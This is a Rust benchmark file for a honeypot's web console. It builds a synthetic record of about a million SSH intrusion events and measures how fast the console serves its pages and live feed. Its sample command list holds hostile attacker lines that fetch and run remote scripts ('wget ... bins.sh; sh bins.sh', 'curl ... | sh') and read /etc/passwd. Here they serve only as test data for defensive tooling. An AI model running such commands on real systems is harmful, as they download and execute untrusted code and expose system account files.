//! How quick the console is with a large record: `cargo bench -p turncoat-console --bench pages`.
//!
//! Makes a record of 103,000 sessions and 1,000,000 events (`SESSIONS=n` for another number)
//! with campaigns, serves it, and asks for every page as a browser would. Then writes 2,000 events a second for ten seconds while somebody
//! looks on, and says how late the live feed was. Prints a table in Markdown, as docs/benchmarks.md has it.

#[path = "../tests/common/mod.rs"]
mod common;

use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use turncoat_console::Settings;
use turncoat_event::kinds::{
    AuthAttempt, ClientKex, ClientVersion, CommandInput, NetConnect, ProcessExec, SessionClose, SessionOpen,
};
use turncoat_event::{Bytes, Item, Kind, Origin, SessionId, Time};

const USERS: &[&str] = &["root", "admin", "ubuntu", "test", "oracle", "git", "deploy", "pi"];
const LINES: &[&str] = &[
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "wget http://192.0.2.9/bins.sh; sh bins.sh",
    "ls -la /tmp",
    "free -m",
    "crontab -l",
    "curl -s http://198.51.100.3/x | sh",
    "cat /etc/passwd",
];

struct Random(u64);

impl Random {
    fn next(&mut self, below: u64) -> u64 {
        self.0 = self
            .0
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1_442_695_040_888_963_407);
        (self.0 >> 33) % below
    }
}

/// One session of about ten events; one in ten gets in.
fn session(n: u64, start: Time, random: &mut Random) -> Vec<Item> {
    let mut entropy = [0u8; 10];
    entropy[..8].copy_from_slice(&n.to_be_bytes());
    let id = SessionId::new(start, entropy);
    let source = [
        198,
        51 + (random.next(40) as u8),
        random.next(256) as u8,
        random.next(64) as u8,
    ];
    let src = std::net::SocketAddr::new(std::net::IpAddr::from(source), 1024 + (n % 60_000) as u16);
    let origin = Origin::session(id, src, "192.0.2.1:22".parse().unwrap(), "ssh");
    let mut at = start;
    let mut items = Vec::new();
    let mut add = |kind: Kind| {
        at = at.plus_nanos(700_000_000);
        items.push(Item::from(origin.at(at, kind)));
    };
    add(SessionOpen { via: None }.into());
    add(ClientVersion {
        version: Bytes::from(format!("SSH-2.0-libssh2_1.{}", random.next(9))),
    }
    .into());
    add(ClientKex {
        hassh: format!("{:032x}", random.next(40)),
        hassh_text: "curve25519-sha256;aes128-ctr;hmac-sha2-256;none".into(),
        kex: vec!["curve25519-sha256".into()],
        host_key: vec!["ssh-ed25519".into()],
        cipher: vec!["aes128-ctr".into()],
        mac: vec!["hmac-sha2-256".into()],
        compression: vec!["none".into()],
        language: vec![],
    }
    .into());
    let inside = n.is_multiple_of(10);
    let user = USERS[random.next(USERS.len() as u64) as usize];
    for last in [false, false, false, true] {
        add(AuthAttempt {
            method: "password".into(),
            user: Bytes::from(user),
            secret: Some(Bytes::from(format!("pass{}", random.next(5_000)))),
            secret_hash: Some("x".into()),
            key_type: None,
            fingerprint: None,
            key: None,
            probe: None,
            accepted: inside && last,
            policy: "after-tries".into(),
        }
        .into());
    }
    if inside {
        for pid in 0..8u32 {
            let line = LINES[random.next(LINES.len() as u64) as usize];
            add(CommandInput {
                line: Bytes::from(line),
                reader: None,
                pid: None,
            }
            .into());
            add(ProcessExec {
                pid: 500 + pid,
                ppid: 499,
                uid: 0,
                path: Bytes::from("/usr/bin/wget"),
                argv: line.split(' ').map(Bytes::from).collect(),
                ancestry: vec!["bash".into()],
                cwd: None,
            }
            .into());
        }
        add(NetConnect {
            protocol: "tcp".into(),
            address: "203.0.113.9".parse().unwrap(),
            port: 80,
            name: None,
            answer: "timeout".into(),
            pid: None,
            program: None,
        }
        .into());
    }
    add(SessionClose {
        reason: "client".into(),
        bytes_in: 900,
        bytes_out: 2_000,
        duration_ms: 9_000,
    }
    .into());
    items
}

fn median(mut times: Vec<Duration>) -> (Duration, Duration) {
    times.sort();
    (times[times.len() / 2], times[times.len() * 95 / 100])
}

fn main() {
    let sessions: u64 = std::env::var("SESSIONS")
        .ok()
        .and_then(|n| n.parse().ok())
        .unwrap_or(103_000);
    let mut stage = common::stage("bench", "bench", Settings::default());
    let month = 30 * 86_400_000_000_000i64;
    let first = common::now().plus_nanos(-month);
    let (mut random, made) = (Random(5), Instant::now());
    let mut last = None;
    for group in 0..sessions.div_ceil(250) {
        let mut items = Vec::new();
        for n in group * 250..((group + 1) * 250).min(sessions) {
            let start =
                first.plus_nanos(month / i64::try_from(sessions).unwrap() * i64::try_from(n).unwrap());
            let one = session(n, start, &mut random);
            if let Some(Item::Event(draft)) = one.first() {
                last = draft.origin.session;
            }
            items.extend(one);
        }
        stage.add(&items);
    }
    // Some sessions are open, as on a day like any other.
    for n in 0..20 {
        let mut items = session(
            sessions + n * 10,
            common::now().plus_nanos(-60_000_000_000),
            &mut random,
        );
        items.pop();
        stage.add(&items);
    }
    println!(
        "{} sessions, {} events, made in {:.0?}\n",
        sessions,
        stage.writer.last_seq(),
        made.elapsed()
    );
    let cookie = stage.cookie();
    let last = last.unwrap();
    let pages = [
        "/".to_owned(),
        "/campaigns".into(),
        "/campaigns/C-1".into(),
        "/campaigns/C-1/report".into(),
        "/sessions".into(),
        "/sessions?in=1".into(),
        "/sessions?open=1".into(),
        "/sessions?source=198.60.0.0/16".into(),
        "/sessions?q=bins.sh".into(),
        format!("/sessions/{last}"),
        "/search".into(),
        "/search?q=root".into(),
        "/search?q=bins.sh".into(),
        "/search?q=root+source:198.60.1.1".into(),
        "/search?kind=auth.".into(),
        "/search?kind=net.connect&source=198.60.1.0/24".into(),
        "/decoys".into(),
        "/api/v1/charts".into(),
        "/metrics".into(),
    ];
    println!("| page | median | 95 % | bytes |\n| --- | --- | --- | --- |");
    for page in pages {
        let mut times = Vec::new();
        let mut bytes = 0;
        for _ in 0..21 {
            let start = Instant::now();
            let answer = stage.get(&page, &cookie);
            times.push(start.elapsed());
            assert_eq!(answer.status, 200, "{page}");
            bytes = answer.bytes.len();
        }
        let (half, most) = median(times);
        println!("| `{page}` | {half:.1?} | {most:.1?} | {bytes} |");
    }
    live(&mut stage, &cookie, &mut random);
}

/// 2,000 events a second for ten seconds: how late each is seen, and that none is lost.
fn live(stage: &mut common::Stage, cookie: &str, random: &mut Random) {
    let mut stream = TcpStream::connect(stage.at).unwrap();
    stream.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    write!(
        stream,
        "GET /live/events HTTP/1.1\r\nHost: {}\r\nCookie: {cookie}\r\n\r\n",
        stage.at
    )
    .unwrap();
    let mut buffer = vec![0; 1 << 20];
    let _ = stream.read(&mut buffer).unwrap();
    let first = stage.writer.last_seq() + 1;
    let committed = stage.host.clone();
    let reading = std::thread::spawn(move || {
        let (mut text, mut seen, mut late) = (String::new(), 0u64, Vec::new());
        loop {
            let n = match stream.read(&mut buffer) {
                Ok(n) if n > 0 => n,
                _ => return (seen, late),
            };
            text.push_str(&String::from_utf8_lossy(&buffer[..n]));
            while let Some(end) = text.find("\n\n") {
                let message: String = text.drain(..end + 2).collect();
                assert!(!message.contains("event: gap"), "the feed did not keep up");
                for part in message.split("\"seq\":").skip(1) {
                    let number: u64 = part.split(',').next().unwrap().parse().unwrap();
                    let time = part
                        .split("\"time\":\"")
                        .nth(1)
                        .and_then(|t| t.split('"').next()?.parse::<Time>().ok());
                    if number >= first {
                        seen += 1;
                        late.push(common::now().since(time.unwrap()).max(0));
                    }
                }
            }
            if seen >= 20_000 {
                return (seen, late);
            }
        }
    });
    let start = Instant::now();
    let id = SessionId::new(common::now(), [9; 10]);
    let origin = common::origin(id, "192.0.2.7", "ssh");
    for tick in 0..500u32 {
        let items: Vec<Item> = (0..40)
            .map(|_| {
                let line = LINES[random.next(LINES.len() as u64) as usize];
                origin
                    .at(
                        common::now(),
                        CommandInput {
                            line: Bytes::from(line),
                            reader: None,
                            pid: None,
                        },
                    )
                    .into()
            })
            .collect();
        let (done, _) = stage.writer.append(&items).unwrap();
        stage.committer.committed(turncoat_event::Mark(done.last_seq));
        std::thread::sleep((Duration::from_millis(20) * (tick + 1)).saturating_sub(start.elapsed()));
    }
    let rate = 20_000.0 / start.elapsed().as_secs_f64();
    let (seen, mut late) = reading.join().unwrap();
    drop(committed);
    late.sort_unstable();
    println!(
        "\nLive feed: {seen} of 20,000 events seen at {rate:.0} events/s; half of them within {:.0} ms, 99 % within {:.0} ms.",
        late[late.len() / 2] as f64 / 1e6,
        late[late.len() * 99 / 100] as f64 / 1e6
    );
}
